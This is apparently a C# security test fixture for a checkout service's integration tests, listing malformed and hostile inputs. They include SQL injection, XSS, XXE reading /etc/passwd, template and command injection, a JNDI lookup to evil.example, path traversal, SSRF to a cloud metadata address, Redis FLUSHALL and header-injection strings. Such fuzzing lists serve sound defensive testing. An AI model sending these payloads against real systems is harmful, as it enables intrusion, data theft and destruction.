using System.Text;
using System.Text.Json;

namespace Checkout.Tests.Integration.Security;

/// <summary>Inputs that are known to break programs.</summary>
internal static class MaliciousInputs
{
    /// <summary>The texts, for every text input.</summary>
    public static readonly IReadOnlyList<string> Texts =
    [
        "", " ", "\t\r\n", "null", "undefined", "NaN", "true", "[object Object]", "\0", "a\0b", "\u0001\u0002\u001f", "\u007f", "\u0085", "\u2028\u2029",
        "\u200b", "\ufeff", "\u202egnp.exe", "\ufffe\uffff", "\ud7ff\ue000", "😀👩‍👩‍👧‍👦", "Z̸̡̛a̷l̶g̵o̸", "ﷺﷺﷺ", "İıŞş", "ß", "Ω≈ç√∫", "田中さんにあげて下さい", "١٢٣", "𝟘𝟙𝟚",
        "' OR '1'='1", "'; DROP TABLE orders; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "1 UNION SELECT NULL, version()--", "admin'--", "') OR ('a'='a", "\\'; DROP TABLE accounts; --",
        "%27%20OR%201=1", "$$; DROP TABLE x; $$", "{\"$gt\":\"\"}", "*", "%", "_", "*)(uid=*))(|(uid=*", "\r\nFLUSHALL\r\n", "*1\r\n$8\r\nFLUSHALL\r\n",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<!--#exec cmd=\"ls\"-->", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{0}", "{Method}", "%s%s%s%n", "%x%x%x", "`id`", "$(id)", "| id", "; id", "& id", "() { :;}; echo vulnerable",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f", "%252e%252e%252f", "..%c0%af..%c0%af", "/etc/passwd", "file:///etc/passwd", "\\\\evil.example\\share", "C:\\", "CON", "//evil.example/",
        "http://169.254.169.254/latest/meta-data/", "http://localhost:6379/", "gopher://localhost:6379/_FLUSHALL",
        "a@b", "@", "a@", "@b", "a@b@c", "a b@example.com", "\"a\"@example.com", "a@[127.0.0.1]", "a@example.com\r\nBcc: all@example.com", "a@example.com,b@example.com", "<a@example.com>", "a@xn--", "a@-.com", "üñí@example.com",
        "0", "-0", "1", "-1", "00", "0x10", "0b1", "0o7", "1e1", "1e308", "1e309", "-1e309", "1.7976931348623157e308", "5e-324", "0.1", ".5", "5.", "1_000", "1,000", "١", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "340282366920938463463374607431768211456", "Infinity", "-Infinity",
        "4242424242424242", "4242-4242-4242-4242", "４２４２４２４２４２４２４２４２", "4242424242424241", "12/30\n", "13/30", "00/00", "12/2030", "1/30", "12/30/30", "123\n", "１２３",
        "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}", "ffffffff-ffff-ffff-ffff-ffffffffffff", "00000000-0000-0000-0000-00000000000g", "00000000000000000000000000000000",
        "2026-02-30", "9999-12-31T23:59:59.9999999Z", "0000-00-00", "-1-01-01", "12:60",
        new('a', 65), new('a', 129), new('a', 255), new('a', 4_000), new('9', 400), new(' ', 2_000), new('/', 500), string.Concat(Enumerable.Repeat("😀", 200)), string.Concat(Enumerable.Repeat("a@", 200)), new string('a', 60) + "@" + new string('b', 60) + ".com", new string('(', 300), string.Concat(Enumerable.Repeat("a\u0301", 300)),
    ];

    /// <summary>The JSON values, already serialized, for every value of a body.</summary>
    public static readonly IReadOnlyList<string> Values =
    [
        .. Texts.Select(text => JsonSerializer.Serialize(text)),
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1E5", "2147483648", "-2147483649", "9223372036854775808", "1e1000000", "0.0000000000000000000000000000000000000000000000000001", new string('9', 1_000),
        "[]", "{}", "[null]", "[[]]", "[{}]", "[1,2,3]", "{\"a\":1}", "{\"\":null}", "{\"__proto__\":{\"admin\":true}}", "{\"$type\":\"System.IO.FileInfo, System.IO.FileSystem\"}", "[\"a\",1,null,{}]",
        "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"\\x41\"", "\"\\", "\"", "'a'", "NaN", "Infinity", "undefined", "01", "+1", "1.", ".1", "0x1F", "1e", "--1", "nul", "TRUE", "// comment", "/* */ 1", "[1,]", "{\"a\":1,}", "{a:1}", "{\"a\"}", "{\"a\":}", "]", "}", ",", ":",
        Nested('[', ']', 63), Nested('[', ']', 65), Nested('[', ']', 5_000), new('[', 10_000), NestedObject(200), NestedObject(3_000),
    ];

    /// <summary>The bodies that match no schema.</summary>
    public static readonly IReadOnlyList<byte[]> Bodies =
    [
        .. Values.Select(Encoding.UTF8.GetBytes),
        [], [0], [0xff], [0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb, 0xbf], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0x1f, 0x8b, 0x08, 0x00],
        Encoding.Unicode.GetBytes("{\"email\":\"a@example.com\"}"), Encoding.UTF32.GetBytes("{}"), [.. "{\"email\":\""u8, 0xff, 0xfe, .. "\"}"u8],
        "email=a&password=b"u8.ToArray(), "<a/>"u8.ToArray(), "{}{}"u8.ToArray(), "{}\n{}"u8.ToArray(), "{\"items\":[],\"items\":[]}"u8.ToArray(), "{\"Email\":1,\"email\":2,\"EMAIL\":3}"u8.ToArray(),
        [.. "{\"a\":\""u8, .. Enumerable.Repeat((byte)'a', 60_000), .. "\"}"u8], [.. "{\"a\":"u8, .. Enumerable.Repeat((byte)' ', 60_000), .. "1}"u8],
        Encoding.UTF8.GetBytes("{" + string.Join(',', Enumerable.Range(0, 5_000).Select(number => $"\"k{number}\":1")) + "}"),
        Encoding.UTF8.GetBytes("{\"items\":[" + string.Join(',', Enumerable.Repeat("{}", 5_000)) + "]}"),
    ];

    /// <summary>The values of the Content-Type header.</summary>
    public static readonly IReadOnlyList<string> ContentTypes =
    [
        "", "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=", "application/json; charset=utf-7",
        "application/json; charset=no-such-charset", "application/json;;;", "application/JSON; charset=\"utf-16\"", "application/json, text/html", "*/*", "a", "application/", "/json", new string('a', 500), "application/vnd.api+json", "application/problem+json",
    ];

    /// <summary>The headers that servers often trust.</summary>
    public static readonly IReadOnlyList<string> Headers =
    [
        "X-Request-ID", "X-Client-Id", "X-Client-Address", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Real-IP", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override",
        "Idempotency-Key", "Accept", "Accept-Encoding", "Accept-Language", "Cookie", "Origin", "Referer", "User-Agent", "Range", "If-None-Match", "If-Modified-Since", "traceparent", "tracestate", "baggage", "Upgrade", "TE", "X-Api-Key",
    ];

    /// <summary>The paths that disguise their target.</summary>
    public static readonly IReadOnlyList<string> Paths =
    [
        "/..", "/../", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%252e%252e%252fetc%252fpasswd", "/..%5c..%5cwindows", "/%c0%ae%c0%ae/", "/.git/config", "/.env", "/appsettings.json", "/appsettings.Development.json",
        "/web.config", "/Gateway.dll", "/bin/Debug/", "/wwwroot/", "/index.html/..", "/index.html%00.png", "/%00", "/%0a", "/%0d%0aSet-Cookie:a=b", "/api", "/api/", "/api//products", "//api/products", "/api/./products", "/api/products/../orders", "/api/products;a=b", "/API/ORDERS", "/api/orders/", "/api/orders//",
        "/api/orders?id=1&id=2", "/api/products?x=%00", "/api/products?" + new string('a', 2_000), "/api/products?" + string.Join('&', Enumerable.Range(0, 300).Select(number => $"a{number}=1")), "/api/orders%2f..%2fproducts", "/swagger", "/swagger/index.html", "/actuator/health", "/admin", "/debug", "/trace.axd", "/elmah.axd",
        "/metrics/x", "/health/x", "/alive/x", "/sessions/current", "/accounts", "/reservations", "/payments", "/processor/charges", "/openapi/v2.json", "/openapi/..%2f..%2fappsettings.json", "/openapi/v1.json/x", "/.well-known/jwks.json/../../accounts",
        "/*", "/?", "/#", "/%", "/%zz", "/%u0041", "/~root", "/a%20b", "/😀", "/" + new string('a', 3_000), "/" + string.Concat(Enumerable.Repeat("a/", 1_000)), "/" + string.Concat(Enumerable.Repeat("../", 500)),
    ];

    private static string Nested(char open, char close, int depth) => new string(open, depth) + new string(close, depth);

    private static string NestedObject(int depth) => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
}
